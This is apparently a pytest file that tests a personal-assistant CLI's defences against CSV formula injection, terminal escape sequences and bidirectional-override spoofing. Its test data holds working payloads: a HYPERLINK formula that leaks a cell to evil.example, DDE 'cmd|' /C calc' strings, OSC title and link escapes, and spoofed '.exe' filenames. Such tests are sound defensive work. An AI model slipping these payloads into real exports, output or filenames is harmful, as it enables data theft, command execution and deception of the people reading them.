"""Text that attacks whoever reads it (issue 10, item 14), by table: formulas in CSV exports,
terminal escape sequences in what ``pa`` prints, bidirectional overrides in titles."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from personal_assistant.cli import output
from personal_assistant.errors import ValidationError
from personal_assistant.exports import document as exports
from personal_assistant.tasks import inputs as check

# --- CSV: formulas are neutralised (OWASP "CSV injection") ------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _document(text: str) -> dict[str, Any]:
    task = dict.fromkeys(exports.TASK_FIELDS) | {"id": 1, "title": text, "description": text}
    run = dict.fromkeys(exports.RUN_FIELDS) | {"id": 1, "task_id": 1, "result": text}
    note = dict.fromkeys(exports.NOTIFICATION_FIELDS) | {"id": 1, "run_id": 1, "body": text}
    task |= {"ai_context": {"k": text}, "max_retries": -1}
    return {"tasks": [task], "runs": [run], "notifications": [note]}


def _cells(files: dict[str, str], name: str) -> dict[str, str]:
    header, row = list(csv.reader(io.StringIO(files[name], newline="")))
    return dict(zip(header, row, strict=True))


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_that_a_spreadsheet_would_evaluate_are_quoted(formula: str) -> None:
    files = exports.render_csv(_document(formula))
    task = _cells(files, "tasks.csv")
    assert task["title"] == "'" + formula
    assert task["description"] == "'" + formula
    assert _cells(files, "runs.csv")["result"] == "'" + formula
    assert _cells(files, "notifications.csv")["body"] == "'" + formula
    assert task["max_retries"] == "-1"  # a number is a number, not a formula


@pytest.mark.parametrize("text", ["plain", "a=b", "", "'quoted", "1e3", '{"k": "=x"}'])
def test_csv_cells_that_are_not_formulas_are_unchanged(text: str) -> None:
    task = _cells(exports.render_csv(_document(text)), "tasks.csv")
    assert task["title"] == text
    assert json.loads(task["ai_context"]) == {"k": text}


# --- terminal escape sequences in what pa prints ----------------------------------------------

ESCAPES = [
    pytest.param("\x1b[2J\x1b[HAll quiet.", "All quiet.", id="clear-screen"),
    pytest.param("\x1b[31mred\x1b[0m text", "red text", id="colours"),
    pytest.param("\x1b]0;pwned\x07title", "title", id="osc-window-title"),
    pytest.param("\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "link", id="osc-link"),
    pytest.param("\x9b2Jeight-bit csi", "eight-bit csi", id="c1-csi"),
    pytest.param("bell\x07 and \x08backspace", "bell and backspace", id="controls"),
    pytest.param("evil\u202egnp.exe", "evilgnp.exe", id="bidi-override"),
    pytest.param("two\nlines\r\nhere", "two lines here", id="line-breaks"),
    pytest.param("Zürich, 東京 ✓", "Zürich, 東京 ✓", id="unicode-kept"),
]


@pytest.mark.parametrize(("raw", "shown"), ESCAPES)
def test_tables_and_blocks_show_no_escape_sequence(raw: str, shown: str) -> None:
    assert output.shorten(raw, 200) == shown
    assert output.table(("H",), [(raw,)], empty="-").splitlines()[1] == shown
    assert output.block([("result", raw)]) == f"result: {shown}"


def test_json_output_escapes_what_a_terminal_would_act_on(
    capsys: pytest.CaptureFixture[str],
) -> None:
    value = "\x1b[2J\x9b2J \u202e \u2028 \x7f Zürich ✓"
    output.print_json({"result": value})
    printed = capsys.readouterr().out
    assert json.loads(printed) == {"result": value}  # the same data for scripts
    for raw in ("\x1b", "\x9b", "\u202e", "\u2028", "\x7f"):
        assert raw not in printed
    assert "Zürich ✓" in printed


# --- bidirectional overrides are refused in free text -----------------------------------------

BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]


@pytest.mark.parametrize("char", BIDI)
@pytest.mark.parametrize("field", ["title", "description", "display_name"])
def test_bidi_controls_are_refused_naming_the_field(char: str, field: str) -> None:
    with pytest.raises(ValidationError) as err:
        check.text(f"invoice{char}fdp.exe", field, max_len=200, multiline=field == "description")
    assert err.value.field == field
    assert f"U+{ord(char):04X}" in err.value.message


def test_other_format_characters_are_kept() -> None:
    emoji = "family 👩\u200d👩\u200d👧 and soft\u00adhyphen"
    assert check.text(emoji, "title", max_len=200) == emoji
